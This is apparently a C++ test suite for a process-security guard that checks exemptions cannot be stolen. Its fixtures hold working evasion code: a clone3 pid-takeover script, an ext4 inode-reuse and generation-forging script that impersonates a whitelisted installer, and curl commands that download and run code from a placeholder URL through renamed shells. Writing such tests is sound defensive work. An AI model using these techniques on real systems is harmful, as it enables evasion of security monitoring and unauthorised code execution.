// SPDX-License-Identifier: Apache-2.0
// Exemptions that somebody might take who has no right to them: by a pid, by a name, by starting a
// taken program himself.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <signal.h>

#include <filesystem>
#include <fstream>

#include "chain_site.h"
#include "image_site.h"

namespace davylamp::test {
namespace {

// Whoever gets the pid of a sensor that was killed is judged as anybody.
TEST(RolesTaken, PidOfADeadSensorExemptsNobody)
{
    ImageSite site;
    site.release();
    GuardOptions options;
    options.mode = Mode::kill;
    options.command = bash(site.fill(
        "touch @D/inside; until [ -s @D/pid ]; do sleep 0.01; done; "
        "@PYTHON -c 'import ctypes, os, struct\n"
        "tid = ctypes.c_int(int(open(\"@D/pid\").read()))\n"
        "args = struct.pack(\"11Q\", 0, 0, 0, 0, 17, 0, 0, 0, ctypes.addressof(tid), 1, 0)\n"
        "pid = ctypes.CDLL(None, use_errno=True).syscall(435, args, len(args))\n"
        "if pid == 0:\n"
        "    os.execv(\"@FILELESS\", [\"f\", \"memfd\", \"@VICTIM\", \"@D\", \"v\"])\n"
        "open(\"@D/got\", \"w\").write(str(pid))\n"
        "os.waitpid(pid, 0)'; touch @D/over"));
    Guard guard(options);
    ASSERT_TRUE(eventually([&] { return exists(site / "inside"); }));
    const std::string pid = std::to_string(guard.process().pid());
    std::filesystem::path pins = guard.pins();
    guard.process().signal(SIGKILL);
    EXPECT_EQ(guard.process().wait(), 128 + SIGKILL);
    std::ofstream(site / "pid") << pid;
    EXPECT_TRUE(eventually([&] { return exists(site / "over"); }));
    EXPECT_EQ(slurp(site / "got"), pid) << "the attack itself does not work";
    EXPECT_FALSE(site.ready("v"));
    std::filesystem::remove_all(pins);
}

const TempFolder& taken()
{
    static const TempFolder folder;
    static const bool made = [] {
        for (const char* name : {"roots", "users"})
            copy(program("live_victim"), folder / name);
        return true;
    }();
    (void)made;
    return folder;
}

// A program of never_kill is spared where the host's root runs it, and not where a user does.
class RolesTakenByUser : public testing::TestWithParam<bool> {};

TEST_P(RolesTakenByUser, NeverKillSparesRootsAlone)
{
    const std::string image = taken() / (GetParam() ? "users" : "roots");
    ImageSite site;
    const std::string user =
        GetParam() ? "setpriv --reuid 65534 --regid 65534 --clear-groups " : "";
    GuardResult result = run_site(
        site, Mode::kill,
        "chmod 777 @D; start v " + user + image + "; rm -f " + image + "; touch @D/go; wait", false,
        R"({"never_kill": [")" + (taken() / "users") + R"(", ")" + (taken() / "roots") +
            R"("], "detections": {"image": {"sweep_s": 0}}})");
    SCOPED_TRACE(result.out + result.err);
    ASSERT_TRUE(site.ready("v"));
    EXPECT_THAT(result.codes(), testing::Contains("EXE-002"));
    EXPECT_EQ(site.done("v"), !GetParam());
}

INSTANTIATE_TEST_SUITE_P(Live, RolesTakenByUser, testing::Bool());

// ext4 gives the number of a removed file again, and without checksums of metadata the new file's
// owner may set its generation (FS_IOC_SETVERSION): a user's file looks like the policy's.
const char* const kTake = R"(import fcntl, os, struct, sys
folder, number, source = sys.argv[1], int(sys.argv[2]), sys.argv[3]
generation = open(sys.argv[4]).read()
for i in range(200):
    fd = os.open(f"{folder}/{i}", os.O_CREAT | os.O_RDWR, 0o755)
    if os.fstat(fd).st_ino == number:
        fcntl.ioctl(fd, 0x40087602, struct.pack("q", int(generation)))
        os.write(fd, open(source, "rb").read())
        os.rename(f"{folder}/{i}", f"{folder}/taken")
        break
)";
const char* const kGeneration = R"(import fcntl, os, struct, sys
b = bytearray(8)
fcntl.ioctl(os.open(sys.argv[1], os.O_RDONLY), 0x80087601, b)
print(struct.unpack("I", b[:4])[0])
)";

// Whose the listed file was: `root`'s, and a `user`'s, who could have written it at any time.
class RolesTakenByNumber : public testing::TestWithParam<const char*> {};

TEST_P(RolesTakenByNumber, ExemptNobodyButItsOwner)
{
    ChainSite site;
    const std::string owner = GetParam();
    const std::string mount = site.folder / "m", tool = mount + "/tool";
    site.folder.write("take.py", kTake);
    site.folder.write("generation.py", kGeneration);
    std::string made =
        site.fill("cd @D; mkdir m; truncate -s 32M f; mkfs.ext4 -q -F -O ^metadata_csum f; "
                  "mount -o loop f m; mkdir m/user; chown 65534 m/user; cp /bin/true m/tool; ");
    if (owner == "user")
        made += "chown 65534 " + tool + "; ";
    ASSERT_EQ(std::system((made + site.fill("/usr/bin/python3 @D/generation.py ") + tool +
                           " > generation; stat -c %i m/tool > number")
                              .c_str()),
              0);
    GuardOptions options;
    options.mode = Mode::block;
    options.policy = R"({"detections": {"chain": {"installers": [")" + tool + R"("]}}})";
    options.command = bash(replaced(
        site.fill("cd @D; chmod 711 .; rm m/tool; "
                  "@USER /usr/bin/python3 - m/user $(cat number) /bin/bash generation < take.py; "
                  "[ -e m/user/taken ] && touch took; chmod 777 .; "
                  "@USER m/user/taken -c 'curl -s -o @D/x @URL; bash @D/x; true'"),
        "@USER", "setpriv --reuid 65534 --regid 65534 --clear-groups"));
    GuardResult result = run_guard(options);
    EXPECT_EQ(std::system(("umount -l " + mount).c_str()), 0);
    SCOPED_TRACE(result.out + result.err);
    ASSERT_TRUE(exists(site.folder / "took")) << "the attack itself does not work";
    EXPECT_EQ(exists(site.marker()), owner == "user");
    if (owner == "root")
        EXPECT_THAT(result.codes(), testing::Contains("CHAIN-003"));
}

INSTANTIATE_TEST_SUITE_P(Live, RolesTakenByNumber, testing::Values("root", "user"));

// A shell by any other name is a shell: what its file holds counts before what it is called.
class RolesTakenByName : public testing::TestWithParam<const char*> {};

TEST_P(RolesTakenByName, ShellIsKnownByItsContent)
{
    ChainSite site;
    GuardOptions options;
    options.mode = Mode::block;
    options.command = bash(site.fill("cp /bin/bash @D/" + std::string(GetParam()) +
                                     "; curl -s @URL | @D/" + GetParam()));
    GuardResult result = run_guard(options);
    EXPECT_THAT(result.codes(), testing::Contains("CHAIN-001")) << result.out << result.err;
    EXPECT_FALSE(exists(site.marker()));
}

INSTANTIATE_TEST_SUITE_P(Live, RolesTakenByName,
                         testing::Values("busybox", "ld-linux-x86-64.so.2", "node"),
                         [](const auto& test) { return test_name(test.param, Mode::block); });

} // namespace
} // namespace davylamp::test
